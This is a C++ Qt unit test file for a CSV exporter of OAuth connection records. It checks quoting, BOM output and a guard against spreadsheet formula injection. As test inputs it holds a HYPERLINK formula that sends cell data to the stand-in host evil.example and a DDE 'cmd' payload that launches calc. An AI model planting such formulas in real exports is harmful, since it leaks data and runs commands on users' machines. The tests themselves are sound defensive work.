// SPDX-FileCopyrightText: 2026 The Increase Connections authors
// SPDX-License-Identifier: GPL-3.0-or-later
// RFC 4180 output, the formula guard, and a round trip through an independent reader.
#include "csvtable.h"
#include "csvwriter.h"

#include <QtTest>

using namespace Qt::StringLiterals;

namespace {

OAuthConnection makeConnection(const QString &id,
                               const std::optional<QString> &deletedAt = std::nullopt)
{
    return {id,
            u"2024-03-01T12:00:00Z"_s,
            deletedAt,
            u"group_1g4mhziu6kvrs3vz35um"_s,
            u"application_gj9ufmpgh5i56k4vyriy"_s,
            deletedAt ? u"inactive"_s : u"active"_s,
            u"oauth_connection"_s};
}

} // namespace

class TestCsvWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void appendField_data();
    void appendField();
    void preamble_data();
    void preamble();
    void rows();
    void chosenColumns();
    void roundTrip();
};

void TestCsvWriter::appendField_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("expected");

    QTest::newRow("plain") << u"connection_1"_s << QByteArray("connection_1");
    QTest::newRow("empty") << QString() << QByteArray();
    QTest::newRow("comma") << u"a,b"_s << QByteArray(R"("a,b")");
    QTest::newRow("quote") << u"say \"hi\""_s << QByteArray(R"("say ""hi""")");
    QTest::newRow("only a quote") << u"\""_s << QByteArray(R"("""")");
    QTest::newRow("LF") << u"a\nb"_s << QByteArray("\"a\nb\"");
    QTest::newRow("CRLF inside") << u"a\r\nb"_s << QByteArray("\"a\r\nb\"");
    QTest::newRow("spaces kept") << u" a "_s << QByteArray(" a ");
    QTest::newRow("guard =") << u"=1+1"_s << QByteArray("'=1+1");
    QTest::newRow("guard +") << u"+31 6"_s << QByteArray("'+31 6");
    QTest::newRow("guard -") << u"-2"_s << QByteArray("'-2");
    QTest::newRow("guard @") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
    QTest::newRow("guard TAB") << u"\tx"_s << QByteArray("'\tx");
    QTest::newRow("guard CR, then quoted") << u"\rx"_s << QByteArray("\"'\rx\"");
    QTest::newRow("guard HYPERLINK, then quoted")
        << u"=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click\")"_s
        << QByteArray(R"csv("'=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")")csv");
    QTest::newRow("guard and comma") << u"=1,2"_s << QByteArray(R"("'=1,2")");
    QTest::newRow("trigger later is fine") << u"a=b-c+d@e"_s << QByteArray("a=b-c+d@e");
    QTest::newRow("unicode") << u"Caf\u00e9 \u6f22 \U0001F600"_s
                             << QByteArray("Caf\xc3\xa9 \xe6\xbc\xa2 \xf0\x9f\x98\x80");
    QTest::newRow("lone surrogate") << QString(QChar(0xd800)) << QByteArray("\xef\xbf\xbd");
    QTest::newRow("timestamp") << u"2024-03-01T12:00:00.123Z"_s
                               << QByteArray("2024-03-01T12:00:00.123Z");
}

void TestCsvWriter::appendField()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, expected);

    // Given a cell, when it is appended after existing bytes
    QByteArray out = "prefix|";
    CsvWriter::appendField(out, text);

    // then only the field's bytes are added, guarded and quoted as needed
    QCOMPARE(out, "prefix|" + expected);
}

void TestCsvWriter::preamble_data()
{
    QTest::addColumn<bool>("bom");
    QTest::addColumn<QByteArray>("expected");

    const QByteArray header =
        "id,created_at,deleted_at,group_id,oauth_application_id,status,type\r\n";
    QTest::newRow("no BOM") << false << header;
    QTest::newRow("BOM first") << true << "\xef\xbb\xbf" + header;
}

void TestCsvWriter::preamble()
{
    QFETCH(bool, bom);
    QFETCH(QByteArray, expected);

    const CsvWriter writer(ExportColumns::defaults(false), bom);
    QCOMPARE(writer.preamble(), expected);

    // The BOM belongs to the file's start only, never to a row.
    QByteArray row;
    writer.appendRow(row, makeConnection(u"connection_1"_s), std::nullopt);
    QVERIFY(!row.contains("\xef\xbb\xbf"));
}

void TestCsvWriter::rows()
{
    // Given the default columns with the application name
    const CsvWriter writer(ExportColumns::defaults(true), false);

    // when an active and an inactive connection are written into one buffer
    QByteArray out;
    writer.appendRow(out, makeConnection(u"connection_1"_s), u"Acme, Inc."_s);
    writer.appendRow(out, makeConnection(u"connection_2"_s, u"2024-03-02T00:00:00Z"_s),
                     std::nullopt);

    // then null cells are empty, the name is quoted and each line ends with CRLF
    QCOMPARE(out, QByteArray("connection_1,2024-03-01T12:00:00Z,,group_1g4mhziu6kvrs3vz35um,"
                             "application_gj9ufmpgh5i56k4vyriy,\"Acme, Inc.\",active,"
                             "oauth_connection\r\n"
                             "connection_2,2024-03-01T12:00:00Z,2024-03-02T00:00:00Z,"
                             "group_1g4mhziu6kvrs3vz35um,application_gj9ufmpgh5i56k4vyriy,,"
                             "inactive,oauth_connection\r\n"));
}

void TestCsvWriter::chosenColumns()
{
    const CsvWriter writer({ExportColumn::Status, ExportColumn::Id}, false);
    QByteArray out = writer.preamble();
    writer.appendRow(out, makeConnection(u"connection_1"_s), std::nullopt);
    QCOMPARE(out, QByteArray("status,id\r\nactive,connection_1\r\n"));
}

void TestCsvWriter::roundTrip()
{
    // Given names chosen to break naive CSV (untrusted text chosen by app owners)
    const QStringList names = {
        u"Plain"_s,       u"Comma, Inc."_s,
        u"Quote \"Q\""_s, u"Line\r\nbreak"_s,
        u"LF\nonly"_s,    u"=cmd|' /C calc'!A0"_s,
        u"+1"_s,          u"-1"_s,
        u"@SUM(1)"_s,     u"\tTab"_s,
        u"\rCR"_s,        u"\u00e9\u6f22\U0001F600"_s,
        QString(),        u"\"\""_s,
        u","_s,
    };
    const CsvWriter writer(ExportColumns::defaults(true), true);

    // when they are exported and read back by an RFC 4180 reader
    QByteArray out = writer.preamble();
    for (qsizetype i = 0; i < names.size(); ++i) {
        const std::optional<QString> deletedAt =
            i % 2 ? std::optional<QString>(u"2024-03-02T00:00:00Z"_s) : std::nullopt;
        writer.appendRow(out, makeConnection(u"connection_"_s + QString::number(i), deletedAt),
                         names.at(i));
    }
    QVERIFY(out.startsWith("\xef\xbb\xbf"));
    QString problem;
    const QList<QStringList> records = CsvTable::parse(out.mid(3), &problem);

    // then every record has every column, and each name is intact apart from the guard
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(records.size(), names.size() + 1);
    QCOMPARE(records.at(0), ExportColumns::allNames());
    for (qsizetype i = 0; i < names.size(); ++i) {
        const QStringList &record = records.at(i + 1);
        QCOMPARE(record.size(), 8);
        QCOMPARE(record.at(0), u"connection_"_s + QString::number(i));
        QCOMPARE(record.at(2), i % 2 ? u"2024-03-02T00:00:00Z"_s : QString());
        const QString &name = names.at(i);
        const bool guarded = !name.isEmpty() && u"=+-@\t\r"_s.contains(name.front());
        QCOMPARE(record.at(5), guarded ? u"'"_s + name : name);
    }
}

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
